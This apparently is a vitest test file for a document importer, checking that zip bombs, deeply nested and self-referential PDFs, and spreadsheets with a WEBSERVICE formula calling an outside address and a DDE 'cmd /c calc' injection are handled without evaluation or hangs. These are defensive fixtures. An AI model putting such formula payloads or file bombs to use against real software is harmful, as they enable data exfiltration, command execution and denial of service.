import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { BundleEntry } from '../../src-main/import/bundle/entry.ts'
import { listBundle } from '../../src-main/import/bundle/list-bundle.ts'
import { createParsePool, type ParsePool } from '../../src-main/import/parse-pool.ts'
import { writeZip } from './bundle/write-archive.ts'

/** Input made to do harm, through the real reader process: it ends in a listing with a reason, in time, and the next file is read. */
let folder = ''
let pool: ParsePool
const PATIENCE_MS = 20_000
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'hostile-'))
  pool = createParsePool({ workerUrl: new URL('../../src-main/import/parse-worker.ts', import.meta.url), size: 1, timeoutMs: PATIENCE_MS, maxOldGenerationSizeMb: 512 })
})
afterAll(async () => {
  await pool.close()
  rmSync(folder, { recursive: true, force: true })
})

async function list(path: string): Promise<BundleEntry[]> {
  const entries: BundleEntry[] = []
  for await (const entry of listBundle(path)) entries.push(entry)
  return entries
}

describe('archives in archives in archives', () => {
  it('of the kind of 42.zip are opened once; nothing of the bombs at their bottom is unpacked', async () => {
    let layer: Buffer = writeZip(Array.from({ length: 16 }, (_, index) => ({ name: `${index}.dll`, content: Buffer.alloc(200_000), deflate: true })))
    for (let depth = 0; depth < 4; depth += 1) {
      const inner = layer
      layer = writeZip(Array.from({ length: 16 }, (_, index) => ({ name: `lib ${index}.zip`, content: inner, deflate: true })))
    }
    const path = join(folder, '42.zip')
    writeFileSync(path, layer)
    const entries = await list(path)
    // The bundle itself, what is in it, and what is in that: 16 archives, each with 16 that stay closed.
    expect(entries).toHaveLength(16 + 16 * 16)
    expect(entries.filter((entry) => entry.opened)).toHaveLength(16)
    expect(entries.filter((entry) => entry.problem === 'nested-too-deep')).toHaveLength(16 * 16)
  })
})

/** A PDF of the objects as they are given, without a table of their places: readers have to search for them. */
const pdf = (...objects: readonly string[]): Buffer => Buffer.from(`%PDF-1.7\n${objects.map((body, index) => `${index + 1} 0 obj\n${body}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\n%%EOF\n`)
const page = (more: string): readonly string[] => ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [3 0 R] >>', `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] ${more} >>`]
const deep = (open: string, close: string, depth: number): string => open.repeat(depth) + close.repeat(depth)

describe('a PDF', { timeout: 2 * PATIENCE_MS }, () => {
  it.each([
    ['of arrays a hundred thousand deep', pdf(...page(`/Annots ${deep('[', ']', 100_000)}`))],
    ['of dictionaries fifty thousand deep', pdf(...page(`/Resources ${deep('<< /A ', ' >>', 50_000)}`))],
    ['whose content is arrays a hundred thousand deep', pdf(...page('/Contents 4 0 R'), `<< /Length 200000 >>\nstream\n${deep('[', ']', 100_000)}\nendstream`)],
    ['whose pages are their own parents', pdf('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 2 /Kids [2 0 R 3 0 R] >>', '<< /Type /Pages /Count 2 /Kids [2 0 R] >>')],
    ['that states a thousand million pages', pdf('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 1] >>')],
    ['whose form draws itself', pdf(...page('/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>'), '<< /Length 5 >>\nstream\n/F Do\nendstream', '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /F 5 0 R >> >> /Length 5 >>\nstream\n/F Do\nendstream')],
    ['whose lengths refer to themselves', pdf(...page('/Contents 4 0 R'), '<< /Length 4 0 R >>\nstream\nBT ET\nendstream')],
  ])('%s ends in time', async (_, bytes) => {
    const began = performance.now()
    const file = await pool.parse(bytes, 'böse.pdf')
    expect(performance.now() - began).toBeLessThan(PATIENCE_MS + 5000)
    expect(file).toMatchObject({ kind: 'document' })
    expect(file.pages.length).toBeLessThan(20_001)
    // Whatever became of it, the next one is read.
    expect(await pool.parse(Buffer.from('虚构说明文字'), 'a.txt')).toMatchObject({ status: 'imported', pages: ['虚构说明文字'] })
  })
})

/** A workbook of one sheet with the cells as given, and further parts. */
function workbook(cells: string, ...parts: readonly { readonly name: string; readonly content: string | Buffer }[]): Buffer {
  const xml = (body: string): string => `<?xml version="1.0" encoding="UTF-8"?>${body}`
  const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  return writeZip([
    { name: '[Content_Types].xml', content: xml('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>') },
    { name: '_rels/.rels', content: xml(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relation}/officeDocument" Target="xl/workbook.xml"/></Relationships>`) },
    { name: 'xl/_rels/workbook.xml.rels', content: xml(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${relation}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`) },
    { name: 'xl/workbook.xml', content: xml(`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${relation}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>`) },
    { name: 'xl/worksheets/sheet1.xml', content: xml(`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${cells}</sheetData></worksheet>`) },
    ...parts,
  ])
}

describe('a workbook', () => {
  it('gives what was stored in it; formulas are never worked out, whatever they would call', async () => {
    const cells = '<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://192.0.2.1/"&amp;B1)</f><v>存下的值</v></c><c r="B1"><f>6*7</f></c><c r="C1"><f>1+1</f><v>5</v></c><c r="D1" t="str"><f>cmd|\'/c calc\'!A1</f><v>x</v></c></row>'
    const [table] = await pool.tables(workbook(cells), 'a.xlsx')
    expect(table?.rows[0]?.cells).toEqual(['存下的值', '', '5', 'x'])
  })

  it('with macros is read for its cells, and the macros stay in the original', async () => {
    const bytes = workbook('<row r="1"><c r="A1" t="str"><v>虚构表</v></c></row>', { name: 'xl/vbaProject.bin', content: Buffer.from('Attribute VB_Name = "Auto_Open"') })
    const file = await pool.parse(bytes, 'a.xlsm')
    expect(file.format).toBe('xlsm')
    expect(file.pages.join('')).toBe('虚构表')
  })
})
